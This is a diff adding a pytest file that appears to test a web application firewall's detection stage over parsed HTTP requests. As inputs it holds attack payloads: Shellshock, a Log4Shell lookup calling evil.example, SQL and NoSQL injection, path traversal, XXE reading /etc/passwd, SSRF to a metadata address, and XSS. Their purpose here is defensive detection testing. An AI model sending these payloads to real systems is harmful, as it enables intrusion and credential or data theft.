@@ -1,0 +1,178 @@
+"""DetectionStage over parsed requests: locations, location rules, exclusions, bounds, model."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import time
+from pathlib import Path
+
+import pytest
+
+from apiward.core import Category, Context, Field, RequestView, Source
+from apiward.detectors.stage import DetectionStage, load_model
+from apiward.errors import ModelError
+from apiward.http.parse import build_request_view
+from apiward.settings import DetectionSettings, Exclusion, LimitSettings
+
+LIMITS = LimitSettings()
+BROWSER = [
+    ("host", "shop.example"),
+    ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"),
+    ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
+    ("accept-language", "en-US,en;q=0.9"),
+    ("accept-encoding", "gzip, deflate, br"),
+    ("sec-ch-ua", '"Google Chrome";v="126", "Not)A;Brand";v="8", "Chromium";v="126"'),
+    ("referer", "https://shop.example/search?q=shoes&page=2"),
+    ("cookie", "sid=6f1c0e0b9a7d4c1f8e2b; _ga=GA1.2.1882597406.1723469780; prefs=%7B%22lang%22%3A%22en%22%2C%22cart%22%3A%5B1%2C2%5D%7D"),
+]
+
+
+def request(
+    method: str = "GET",
+    path: str = "/",
+    query: str = "",
+    headers: list[tuple[str, str]] | None = None,
+    body: bytes = b"",
+) -> RequestView:
+    return build_request_view(method, path, query, headers if headers is not None else BROWSER, "127.0.0.1", body, LIMITS)
+
+
+def stage(**overrides: object) -> DetectionStage:
+    return DetectionStage(DetectionSettings(use_model=False, **overrides), None)  # type: ignore[arg-type]
+
+
+def blocking(findings: list) -> dict[str, Category]:
+    return {f.location: f.category for f in findings if f.score >= 0.5}
+
+
+def test_benign_browser_request_has_no_findings() -> None:
+    view = request(path="/products/42", query="color=red&size=M&q=O%27Brien+select+your+size")
+    assert blocking(stage().findings(view)) == {}
+
+
+def test_api_sdk_request_with_few_headers_has_no_findings() -> None:
+    headers = [("content-type", "application/json"), ("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig")]
+    body = json.dumps({"email": "jane+shop@example.com", "note": "drop me a line", "next": "https://shop.example/a?b=c"})
+    assert blocking(stage().findings(request("POST", "/api/orders", headers=headers, body=body.encode()))) == {}
+
+
+def test_odd_user_agent_alone_is_not_evidence() -> None:
+    headers = [("user-agent", "curl/8.4.0"), ("x-custom", "1")]
+    assert stage().findings(request(headers=headers)) == []
+    assert stage().findings(request(headers=[])) == []
+
+
+def test_query_attack_is_located() -> None:
+    found = blocking(stage().findings(request(query="id=1%27%20or%20%271%27%3D%271")))
+    assert found == {"query.id": Category.SQLI}
+
+
+def test_shellshock_in_a_header() -> None:
+    headers = [*BROWSER, ("user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'")]
+    found = stage().findings(request(headers=headers))
+    assert any(f.location == "header.user-agent" and f.category is Category.SHELLSHOCK for f in found)
+
+
+def test_log4shell_in_a_custom_header() -> None:
+    headers = [*BROWSER, ("x-api-version", "${${lower:j}ndi:ldap://evil.example/a}")]
+    found = blocking(stage().findings(request(headers=headers)))
+    assert found.get("header.x-api-version") is Category.LOG4SHELL
+
+
+def test_nosql_operator_key_in_json_and_query() -> None:
+    body = json.dumps({"user": "admin", "password": {"$ne": None}}).encode()
+    headers = [("content-type", "application/json")]
+    found = stage().findings(request("POST", "/login", headers=headers, body=body))
+    assert any(f.category is Category.NOSQLI for f in found if f.score >= 0.5)
+    found = stage().findings(request(query="user=admin&password[$ne]=x", headers=[]))
+    assert any(f.category is Category.NOSQLI and f.score >= 0.5 for f in found)
+
+
+def test_traversal_in_a_multipart_file_name_and_upload_extension() -> None:
+    body = (
+        b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../shell.php\"\r\n"
+        b"Content-Type: text/plain\r\n\r\nhello\r\n--b--\r\n"
+    )
+    headers = [("content-type", "multipart/form-data; boundary=b")]
+    found = stage().findings(request("POST", "/upload", headers=headers, body=body))
+    categories = {f.category for f in found if f.score >= 0.5}
+    assert Category.TRAVERSAL in categories
+
+
+def test_xxe_on_the_raw_xml_body() -> None:
+    body = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
+    found = stage().findings(request("POST", "/api/xml", headers=[("content-type", "application/xml")], body=body))
+    assert any(f.category is Category.XXE and f.score >= 0.9 for f in found)
+
+
+def test_ssrf_not_judged_in_referer_but_in_a_parameter() -> None:
+    headers = [*BROWSER, ("referer", "http://127.0.0.1:3000/dev")]
+    assert blocking(stage().findings(request(headers=headers))) == {}
+    found = blocking(stage().findings(request(query="url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F")))
+    assert found == {"query.url": Category.SSRF}
+
+
+def test_evidence_is_short_and_redacted() -> None:
+    secret = "sk_live_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4"
+    found = stage().findings(request(query=f"q={secret}%27%20union%20select%20password%20from%20users--"))
+    assert found
+    for finding in found:
+        assert len(finding.evidence) <= 80
+        assert secret not in finding.evidence
+
+
+def test_truncated_values_say_so() -> None:
+    value = "a" * 40_000 + "<script>alert(1)</script>"
+    view = RequestView("POST", "/", "/", "", (), "127.0.0.1", fields=(Field(Source.BODY, "comment", value),))
+    found = stage().findings(view)
+    xss = [f for f in found if f.category is Category.XSS]
+    assert xss and "head+tail" in xss[0].evidence and len(xss[0].evidence) <= 80
+
+
+def test_exclusions_by_route_location_and_category() -> None:
+    view = request(path="/cms/pages", query="html=%3Cscript%3Ealert(1)%3C/script%3E")
+    assert blocking(stage().findings(view))
+    excluded = stage(exclusions=(Exclusion(route="/cms/*", location="query.html", categories=(Category.XSS,)),))
+    assert blocking(excluded.findings(view)) == {}
+    other_category = stage(exclusions=(Exclusion(route="/cms/*", location="query.html", categories=(Category.SQLI,)),))
+    assert blocking(other_category.findings(view))
+    other_route = stage(exclusions=(Exclusion(route="/api/*", location="*"),))
+    assert blocking(other_route.findings(view))
+
+
+def test_inspect_is_the_async_face_of_findings() -> None:
+    view = request(query="q=%3Csvg%20onload%3Dalert(1)%3E")
+    found = asyncio.run(stage().inspect(view, Context(request_id="r1")))
+    assert [f.category for f in found if f.score >= 0.5] == [Category.XSS]
+
+
+def test_ten_thousand_fields_in_bounded_time() -> None:
+    fields = tuple(Field(Source.BODY, f"items[{i}].note", f"note {i}; see <b>{i}</b> & more") for i in range(10_000))
+    view = RequestView("POST", "/", "/", "", (), "127.0.0.1", fields=fields)
+    started = time.perf_counter()
+    stage().findings(view)
+    assert time.perf_counter() - started < 20.0
+
+
+def test_megabyte_field_and_encoding_bomb_in_bounded_time() -> None:
+    fields = (
+        Field(Source.BODY, "big", ("x' or " * 200_000)[:1_000_000]),
+        Field(Source.QUERY, "bomb", "%" + "25" * 50_000 + "2e%2e%2fetc%2fpasswd"),
+        Field(Source.QUERY, "tags", "<" * 100_000),
+        Field(Source.QUERY, "parens", "(" * 100_000 + ")" * 100_000),
+    )
+    view = RequestView("POST", "/", "/", "", (), "127.0.0.1", fields=fields)
+    started = time.perf_counter()
+    stage().findings(view)
+    assert time.perf_counter() - started < 10.0
+
+
+def test_missing_or_corrupt_model_is_a_startup_error(tmp_path: Path) -> None:
+    with pytest.raises(ModelError):
+        load_model(DetectionSettings(model=tmp_path / "missing.npz"))
+    corrupt = tmp_path / "corrupt.npz"
+    corrupt.write_bytes(b"not a model")
+    with pytest.raises(ModelError):
+        load_model(DetectionSettings(model=corrupt))
+    assert load_model(DetectionSettings(use_model=False)) is None
